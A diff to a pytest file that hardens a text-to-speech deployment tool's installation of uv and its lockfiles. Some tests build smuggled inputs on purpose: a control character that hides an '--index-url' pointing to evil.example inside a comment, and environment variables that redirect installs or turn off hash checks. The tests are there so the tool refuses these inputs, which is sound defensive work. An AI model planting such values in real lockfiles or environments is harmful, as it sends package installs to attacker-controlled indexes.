@@ -231,6 +231,7 @@ def test_the_runner_uses_the_uv_that_resolved_the_locks(tmp_path, monkeypatch):
     def run(argv, **kw):
         if argv[1:3] == ["-m", "pip"]:
             pip.append(argv)
+            _fake_uv(Path(argv[argv.index("--target") + 1]) / "bin", lockfile.UV_VERSION)  # what pip leaves
             return subprocess.CompletedProcess(argv, 0)
         return real_run(argv, **kw)
 
@@ -239,9 +240,12 @@ def test_the_runner_uses_the_uv_that_resolved_the_locks(tmp_path, monkeypatch):
     assert deploy_env.ensure_uv() is None and pip == []  # the pinned version on PATH: used as it is
     monkeypatch.setenv("PATH", f"{_fake_uv(tmp_path / 'colab', '0.1.0')}:/usr/bin:/bin")  # another uv (Colab's)
     assert deploy_env.ensure_uv() == str(tmp_path / "home" / "bin")
-    assert pip == [[sys.executable, "-m", "pip", "install", "-q", "--upgrade", "--target", str(tmp_path / "home"),
-                    f"uv=={lockfile.UV_VERSION}"]]
-    _fake_uv(tmp_path / "home" / "bin", lockfile.UV_VERSION)  # what that pip install leaves
+    assert pip == [[sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--only-binary", ":all:",
+                    "--require-hashes", "--target", str(tmp_path / "home.partial"), "-r",
+                    str(tmp_path / ".home.requirements.txt")]]  # renamed into place once its uv answers
+    wanted = (tmp_path / ".home.requirements.txt").read_text()  # pinned and checked, as the locks are
+    assert wanted.startswith(f"uv=={lockfile.UV_VERSION} --hash=sha256:") and wanted.count("--hash=") == 4
+    assert not (tmp_path / "home.partial").exists()
     pip.clear()
     assert deploy_env.ensure_uv() == str(tmp_path / "home" / "bin") and pip == []  # installed once
     with open(tmp_path / "log", "w") as log:  # every uv step finds the pinned one first on PATH
@@ -370,3 +374,125 @@ def test_the_generator_reads_an_sdists_build_requirements_and_checks_its_sha256(
     assert requirements(sdist("[tool.black]\n")) == ["setuptools>=40.8.0", "wheel"]
     with pytest.raises(RuntimeError, match="does not match the sha256 the lock records"):
         requirements(sdist(None), sha="0" * 64)
+
+
+@pytest.mark.parametrize("hidden", ["\r", "\r\n", "\x0c", "\x0b", "\x00", "\t", "\x1b"])
+def test_a_control_character_that_uv_may_read_as_a_line_break_is_refused(tmp_path, hidden):
+    # uv 0.13.9 ends a comment at a bare CR: "# note\r--index-url URL" installs from URL (tried: it fetched
+    # six from the index after the CR); Python's split("\n") saw one comment line
+    text = lock_path("metavoice").read_text()
+    marker = "\nxformers==0.0.25 \\\n"
+    path = tmp_path / "metavoice.txt"
+    path.write_bytes(text.replace(marker, f"\n# a note{hidden}--index-url https://evil.example/simple{marker}")
+                     .encode())
+    with pytest.raises(ValueError, match=r"metavoice\.txt:\d+ holds a control character"):
+        read_lock(path)
+
+
+def test_a_no_binary_option_names_a_locked_package_the_header_lists_as_an_sdist(tmp_path):
+    # a --no-binary added to both the header and the body built numpy from source with build dependencies no
+    # build constraint pins, and check_lock accepted it
+    spec = SYSTEMS["gpt-sovits"]
+    widened = edited(tmp_path, "gpt-sovits", "# build-options: --no-binary opencc",
+                     "# build-options: --no-binary opencc; --no-binary numpy")
+    path = widened.path
+    path.write_text(path.read_text().replace("\n--no-binary opencc\n", "\n--no-binary opencc\n--no-binary numpy\n"))
+    lock = read_lock(path)
+    assert "--no-binary numpy" in lock.options
+    assert any("--no-binary numpy" in p and "sdists" in p for p in mismatches(spec, lock))
+    unlocked = edited(tmp_path, "gpt-sovits", "# build-options: --no-binary opencc",
+                      "# build-options: --no-binary opencc; --no-binary evil")
+    unlocked.path.write_text(unlocked.path.read_text().replace("\n--no-binary opencc\n",
+                                                              "\n--no-binary opencc\n--no-binary evil\n"))
+    assert any("--no-binary evil" in p for p in mismatches(spec, read_lock(unlocked.path)))
+    assert mismatches(spec, read_lock(lock_path("gpt-sovits"))) == []
+
+
+@pytest.mark.parametrize("left", ["truncated", "empty", "not executable", "partial folder", "other version"])
+def test_a_uv_install_cut_short_is_redone_not_run(tmp_path, monkeypatch, left):
+    # a Ctrl-C or full disk during pip's copy left home/bin/uv cut short: every later run raised
+    # "OSError: [Errno 8] Exec format error: 'uv'" (a traceback) and nothing reinstalled it
+    from colab_tts.deploy import env as deploy_env
+
+    home = tmp_path / "home"
+    monkeypatch.setattr(deploy_env, "UV_HOME", home)
+    uv = home / "bin" / "uv"
+    uv.parent.mkdir(parents=True)
+    if left == "truncated":
+        uv.write_bytes(b"\x7fELF\x02\x01\x01" + bytes(100))
+    elif left == "empty":
+        uv.write_bytes(b"")
+    elif left == "not executable":
+        _fake_uv(uv.parent, lockfile.UV_VERSION).joinpath("uv").chmod(0o644)
+    elif left == "partial folder":  # pip killed while writing beside it; home holds no uv
+        uv.parent.rmdir()
+        _fake_uv(tmp_path / "home.partial" / "bin", lockfile.UV_VERSION)
+    else:
+        _fake_uv(uv.parent, "0.1.0")
+    if left in ("truncated", "empty"):
+        uv.chmod(0o755)
+    real_run, pip = subprocess.run, []
+
+    def run(argv, **kw):
+        if argv[1:3] == ["-m", "pip"]:
+            pip.append(argv)
+            target = Path(argv[argv.index("--target") + 1])
+            assert not target.exists()  # a fresh folder: nothing of the interrupted install reused
+            _fake_uv(target / "bin", lockfile.UV_VERSION)
+            return subprocess.CompletedProcess(argv, 0)
+        return real_run(argv, **kw)
+
+    monkeypatch.setattr(deploy_env.subprocess, "run", run)
+    monkeypatch.setenv("PATH", "/usr/bin:/bin")
+    assert deploy_env.ensure_uv() == str(home / "bin") and len(pip) == 1
+    assert deploy_env._uv_version({"PATH": f"{home / 'bin'}:/usr/bin:/bin"}) == lockfile.UV_VERSION
+
+    def failing(argv, **kw):  # no network: one clear error, and no folder that looks installed
+        if argv[1:3] == ["-m", "pip"]:
+            target = Path(argv[argv.index("--target") + 1])
+            (target / "bin").mkdir(parents=True)
+            (target / "bin" / "uv").write_bytes(b"")
+            return subprocess.CompletedProcess(argv, 1)
+        return real_run(argv, **kw)
+
+    uv.write_bytes(b"")
+    monkeypatch.setattr(deploy_env.subprocess, "run", failing)
+    with pytest.raises(RuntimeError, match=rf"could not install uv {lockfile.UV_VERSION} .*pip exited 1"):
+        deploy_env.ensure_uv()
+    assert not (tmp_path / "home.partial").exists()
+
+
+@pytest.mark.parametrize("key, value", [("for", "indextts2.txt"), ("python", "3.11"),
+                                        ("platform", "aarch64-manylinux_2_28")])
+def test_a_build_constraint_made_for_another_lock_or_python_is_refused(tmp_path, key, value):
+    # the build constraint's own header ("for", "python", "platform") was never compared with the lock's: one
+    # resolved for another interpreter with the same sdists and date passed
+    build = lockfile.build_constraint_path("gpt-sovits")
+    text = build.read_text()
+    line = next(x for x in text.splitlines() if x.startswith(f"# {key}: "))
+    (tmp_path / build.name).write_text(text.replace(line, f"# {key}: {value}"))
+    lock = edited(tmp_path, "gpt-sovits", "x", "x")
+    assert any(f"records {key} {value!r}" in p for p in mismatches(SYSTEMS["gpt-sovits"], lock))
+
+
+def test_uv_reads_no_index_or_setting_the_plan_does_not_name(tmp_path, monkeypatch):
+    # uv 0.13.9 read a uv.toml in the current folder ([pip] extra-index-url) and UV_EXTRA_INDEX_URL from the
+    # environment: the runner's installs went to that index (tried with uv pip compile -v: it fetched from it)
+    from colab_tts.deploy import env as deploy_env
+
+    folder = _fake_uv(tmp_path / "bin", lockfile.UV_VERSION)
+    (folder / "uv").write_text(f"#!/bin/sh\n[ \"$1\" = --version ] && echo 'uv {lockfile.UV_VERSION} (x)' && exit 0\n"
+                               "env\n")
+    monkeypatch.setenv("PATH", f"{folder}:/usr/bin:/bin")
+    for name, value in (("UV_EXTRA_INDEX_URL", "https://evil.example/simple"), ("UV_INDEX_URL", "https://e.x"),
+                        ("UV_DEFAULT_INDEX", "https://e.x"), ("UV_FIND_LINKS", "/tmp"), ("UV_CONSTRAINT", "/x"),
+                        ("UV_PYTHON_INSTALL_MIRROR", "https://evil.example/python"), ("UV_NO_VERIFY_HASHES", "1"),
+                        ("UV_INSECURE_HOST", "evil.example"), ("UV_CONFIG_FILE", "/tmp/uv.toml"),
+                        ("UV_CACHE_DIR", str(tmp_path / "cache"))):
+        monkeypatch.setenv(name, value)
+    monkeypatch.chdir(tmp_path)
+    with open(tmp_path / "log", "w") as log:
+        seen = deploy_env._run(["uv", "pip", "install", "x"], log, capture=True).stdout
+    env = dict(line.split("=", 1) for line in seen.splitlines() if "=" in line)
+    assert env["UV_NO_CONFIG"] == "1" and env["UV_CACHE_DIR"] == str(tmp_path / "cache")
+    assert sorted(k for k in env if k.startswith("UV_")) == ["UV_CACHE_DIR", "UV_NO_CONFIG"]
